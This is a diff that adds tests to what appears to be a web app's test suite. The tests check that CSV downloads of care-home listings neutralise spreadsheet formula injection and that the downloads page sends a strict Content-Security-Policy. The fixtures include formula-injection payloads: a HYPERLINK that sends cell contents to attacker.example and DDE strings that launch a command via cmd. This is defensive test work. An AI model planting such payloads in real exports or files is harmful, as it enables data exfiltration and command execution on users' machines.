@@ -178,6 +178,32 @@ test('the CSV quotes commas, quotes and line breaks as RFC 4180 asks, so a parse
   }
 });
 
+// Issue 46, item 9: a name a spreadsheet would run as a formula is defused as OWASP describes.
+test("a text cell a spreadsheet would evaluate (= + - @, tab, carriage return first) gets a leading ' and quotes; others are verbatim", async (t) => {
+  const db = new Database(path.join(dir, 'rcfe-2030-01-05.sqlite'), { readonly: true });
+  const licenses = db.prepare('SELECT license_number FROM listed_homes LIMIT 7').pluck().all() as string[];
+  db.close();
+  const names = ['=HYPERLINK("http://attacker.example/?x="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', 'ROSE HOUSE - ANNEX'];
+  const { dir: own } = await publishGenerations([{ date: '2030-01-05', renamed: licenses.map((license, i) => ({ license, name: names[i]! })) }]);
+  const served = await startServer({ snapshotsDir: own });
+  try {
+    const text = (await call(`${served.url}/data/rcfe-2030-01-05.csv`)).text;
+    const rows = parse(text, { columns: true, record_delimiter: '\r\n' }) as Array<Record<string, string>>;
+    for (const [i, license] of licenses.entries()) {
+      const row = rows.find((r) => r.license_number === license)!;
+      const expected = i < 6 ? `'${names[i]}` : names[i]!;
+      t.is(row.name, expected, names[i]);
+      t.is(row.licensed_name, expected);
+    }
+    t.true(text.includes('"\'=HYPERLINK(""http://attacker.example/?x=""&A1,""Click"")"'), 'defused and quoted');
+    t.false(/(^|,)[=+\-@\t\r]/m.test(text.split('\r\n').map((line) => line.replace(/"[^"]*"/g, '')).join('\n')), 'no bare cell starts a formula');
+    const pkg = (await call(`${served.url}/data/rcfe-2030-01-05.datapackage.json`)).body;
+    t.regex(pkg.resources[0].description, /written with a ' before it/);
+  } finally {
+    await served.close();
+  }
+});
+
 test('nothing private is ever served', async (t) => {
   for (const name of [
     OPERATOR_STORE_FILE,
@@ -216,6 +242,15 @@ test('downloads have their own per-address budget', async (t) => {
   } finally {
     await limited.close();
   }
+});
+
+test('/data carries the pages\' Content-Security-Policy: nothing framed, no inline script (issue 46, item 8)', async (t) => {
+  const page = await get('/data', { headers: { accept: 'text/html' } });
+  t.regex(page.headers.get('content-type') ?? '', /^text\/html/);
+  const policy = page.headers.get('content-security-policy') ?? '';
+  t.regex(policy, /(^|; )default-src 'none'(;|$)/);
+  t.regex(policy, /(^|; )frame-ancestors 'none'(;|$)/);
+  t.regex(policy, /(^|; )script-src 'self'/);
 });
 
 test('every page links the downloads from the site navigation', async (t) => {
